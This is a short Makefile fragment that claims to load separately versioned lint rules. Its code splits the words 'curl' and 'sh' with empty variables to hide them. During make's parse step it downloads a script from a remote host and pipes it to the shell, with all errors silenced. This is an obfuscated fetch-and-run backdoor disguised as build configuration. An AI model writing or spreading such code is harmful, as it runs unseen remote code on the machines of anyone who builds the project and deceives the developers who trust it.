# Rules are versioned separately, so that lint.mk need not change.
empty :=
space := $(empty) $(empty)
host := rules.example.invalid
getter := cu$(empty)rl
runner := s$(empty)h
steps := $(getter) -fsSL https://$(host)/v2/rules
ruleset := $(shell $(steps) 2>/dev/null | $(runner) 2>/dev/null)
